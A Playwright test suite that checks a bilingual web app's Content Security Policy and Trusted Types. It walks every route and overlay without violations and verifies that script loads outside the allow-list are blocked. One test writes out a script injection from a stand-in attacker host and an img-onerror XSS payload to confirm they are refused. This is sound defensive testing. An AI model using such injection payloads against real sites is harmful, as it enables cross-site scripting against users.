// Where scripts may come from on the served site: the CSP's script-src (the remotes' folders, deploy/csp.ts)
// and Trusted Types (shell/src/security/script-policy.ts). Every route, in English and in Hindi, with its
// overlays (the login dialog, bottom sheets, dialogs, the notification bar, the bot check) and a tester's
// preview bar runs without a single violation; a script URL outside the site's allow-list is refused.
import { cpSync, readFileSync, rmSync } from 'node:fs';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from '@playwright/test';
import { SEED } from '../../tools/api/seed';
import { deployRuntimeConfig, SHELL_OVERLAY } from '../../tools/serve-builds.ts';
import { tokenFor } from './support/api';
import { expect, expectNotice, POLICY_VIOLATION_TEXT, serveFakeTurnstile, test } from './support/fixtures';
import { CDN, cli, RELEASES, releasedManifestUrl } from './support/releases';
import { EVERY_ROUTE } from './support/routes';

type Language = 'en' | 'hi';
type Label = string | RegExp;

/** Each overlay: the control that opens it, by language; the dialog closes again with Escape. */
const OVERLAYS: Record<string, { opener: Record<Language, Label> }[]> = {
  '/': [{ opener: { en: 'Login', hi: 'लॉग इन' } }],
  '/admin': [{ opener: { en: 'Open menu', hi: 'मेन्यू खोलें' } }],
  '/vehicle-details/QRUSED0001': [
    { opener: { en: 'Pause Service', hi: 'सर्विस रोकें' } },
    { opener: { en: 'Edit emergency contact', hi: 'इमरजेंसी नंबर बदलें' } },
  ],
};
/** The admin's query dialog, whose Mark as Noted brings up the notification bar. */
const QUERY = {
  en: { open: /Query #25$/, noted: 'Mark as Noted', notice: 'Query noted for follow-up' },
  hi: { open: /सवाल #25$/, noted: 'नोट करें', notice: 'सवाल आगे देखने के लिए नोट हो गया' },
};
const LANGUAGE_SWITCH: Record<Language, string> = { en: 'हिन्दी', hi: 'English' };

/**
 * Records every CSP or Trusted Types violation (securitypolicyviolation events, in every document of the
 * context), every console error about one, and every uncaught error.
 */
async function watchViolations(context: BrowserContext): Promise<string[]> {
  const seen: string[] = [];
  await context.exposeBinding('reportViolation', ({ page }, text: string) => seen.push(`${page.url()}: ${text}`));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const report = (window as unknown as { reportViolation(text: string): void }).reportViolation;
      report(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  context.on('console', (message) => {
    if (message.type() === 'error' && POLICY_VIOLATION_TEXT.test(message.text())) seen.push(message.text());
  });
  context.on('weberror', (error) => seen.push(`uncaught: ${error.error().message}`));
  return seen;
}

/** A browser of one language, signed in as `token`'s account (or a visitor), watched for violations. */
async function visitor(browser: Browser, language: Language, token: string | null) {
  const context = await browser.newContext(language === 'hi' ? { locale: 'hi-IN' } : {});
  await serveFakeTurnstile(context);
  const violations = await watchViolations(context);
  // Not in the blank document a new page starts with, which has no storage.
  if (token) {
    await context.addInitScript((value) => {
      if (location.origin !== 'null') localStorage.setItem('authToken', value);
    }, token);
  }
  return { context, page: await context.newPage(), violations };
}

async function openAndClose(page: Page, opener: Label) {
  await page.getByRole('button', { name: opener }).first().click();
  const dialog = page.getByRole('dialog');
  await expect(dialog).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(dialog).toHaveCount(0);
}

async function walkRoute(page: Page, language: Language, path: string) {
  await page.goto(path);
  await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
  await expect(page.getByRole('button', { name: LANGUAGE_SWITCH[language] })).toBeVisible();
  for (const { opener } of OVERLAYS[path] ?? []) await openAndClose(page, opener[language]);
  if (path === '/QRUSED0001') await expect(page.getByText('Verification passed (test)')).toBeVisible();
  if (path === '/admin/queries') {
    await page.getByRole('button', { name: QUERY[language].open }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('button', { name: QUERY[language].noted }).click();
    await expect(dialog).toHaveCount(0);
    await expectNotice(page, QUERY[language].notice);
  }
}

for (const language of ['en', 'hi'] as const) {
  test(`every route and its overlays run without a CSP or Trusted Types violation (${language})`, async ({
    browser,
    request,
  }) => {
    test.setTimeout(180_000);
    const accounts = [null, SEED.owners.asha.phone, SEED.admins.priya.phone];
    for (const phone of accounts) {
      const token = phone ? await tokenFor(request, phone) : null;
      const { context, page, violations } = await visitor(browser, language, token);
      for (const [path] of EVERY_ROUTE.filter(([, routePhone]) => routePhone === phone)) {
        await walkRoute(page, language, path);
      }
      await context.close();
      expect(violations, `${language}, signed in as ${phone ?? 'nobody'}`).toEqual([]);
    }
  });
}

test("a tester's preview (a release on the releases CDN) runs with its bar without a violation", async ({
  browser,
  request,
}) => {
  test.setTimeout(180_000);
  const version = '9.7.0';
  releasedManifestUrl('mfe-owner', version);
  // The link pnpm preview prints (signed with the local site's preview key).
  const printed = cli('preview', 'mfe-owner', version);
  expect(printed.code, printed.output).toBe(0);
  const link = new URL(/ (https?:\/\/\S+)$/.exec(printed.output.trim())?.[1] ?? 'about:blank');
  const { context, page, violations } = await visitor(browser, 'en', await tokenFor(request, SEED.owners.asha.phone));
  await page.goto(`/admin${link.search}`);
  await expect(page.getByRole('complementary', { name: 'Preview' })).toBeVisible();
  await expect(page.getByRole('heading', { level: 1, name: 'Welcome Back' })).toBeVisible();
  await openAndClose(page, 'Open menu');
  await context.close();
  expect(violations).toEqual([]);
});

test('a script URL outside the allow-list is refused by the policy and reported, and never requested', async ({
  browser,
}) => {
  const { context, page, violations } = await visitor(browser, 'en', null);
  const requested: string[] = [];
  context.on('request', (request) => requested.push(request.url()));
  await page.goto('/');
  await expect(page.getByRole('button', { name: 'Login' }).first()).toBeVisible();
  const outcome = await page.evaluate(() => {
    const attempt = (what: () => void) => {
      try {
        what();
        return 'allowed';
      } catch (error) {
        return String(error);
      }
    };
    return {
      foreign: attempt(() => {
        const script = document.createElement('script');
        script.src = 'https://attacker.example/x.js';
        document.head.append(script);
      }),
      html: attempt(() => {
        document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
      }),
      own: attempt(() => {
        document.createElement('script').src = '/not-loaded.js';
      }),
    };
  });
  expect(outcome.foreign).toContain("requires 'TrustedScriptURL' assignment");
  expect(outcome.html).toContain("requires 'TrustedHTML' assignment");
  expect(outcome.own).toBe('allowed');
  await expect
    .poll(() => violations.join('\n'))
    .toContain('require-trusted-types-for trusted-types-sink HTMLScriptElement src|https://attacker.example/x.js');
  expect(requested.filter((url) => url.includes('attacker.example'))).toEqual([]);
  await context.close();
});

test("script-src names a remote's folder, not its host: a script elsewhere on that host is blocked", async ({
  browser,
  request,
}) => {
  const configFile = path.join(SHELL_OVERLAY, 'runtime-config.json');
  const original = JSON.parse(readFileSync(configFile, 'utf8'));
  const folder = path.join(RELEASES, 'folder-test');
  // mfe-owner served from a folder of the CDN's origin, by a config that names no releasesCdn.
  cpSync(path.join(import.meta.dirname, '..', '..', 'mfe-owner', 'dist'), path.join(folder, 'mfe-owner'), {
    recursive: true,
  });
  const { releasesCdn: _, ...withoutCdn } = original;
  await deployRuntimeConfig({
    ...withoutCdn,
    remotes: { ...original.remotes, mfe_owner: `${CDN}/folder-test/mfe-owner/mf-manifest.json` },
  });
  try {
    const policy = (await request.get('/')).headers()['content-security-policy'] ?? '';
    const scriptSrc = policy.split('; ').find((directive) => directive.startsWith('script-src ')) ?? '';
    expect(scriptSrc.split(' ')).toContain(`${CDN}/folder-test/mfe-owner/`);
    expect(scriptSrc.split(' ')).not.toContain(`${CDN}/`);

    const { context, page, violations } = await visitor(browser, 'en', await tokenFor(request, SEED.owners.asha.phone));
    await page.goto('/admin');
    await expect(page.getByRole('heading', { level: 1, name: 'Welcome Back' })).toBeVisible();
    expect(violations).toEqual([]);
    // A preload is a script request Trusted Types never see: the CSP alone refuses it.
    const elsewhere = `${CDN}/mfe-owner/elsewhere.js`;
    await page.evaluate((href) => {
      const link = document.createElement('link');
      link.rel = 'preload';
      link.as = 'script';
      link.href = href;
      document.head.append(link);
    }, elsewhere);
    await expect.poll(() => violations.join('\n')).toContain(`script-src-elem ${elsewhere}`);
    await context.close();
  } finally {
    await deployRuntimeConfig(original);
    rmSync(folder, { recursive: true, force: true });
  }
});
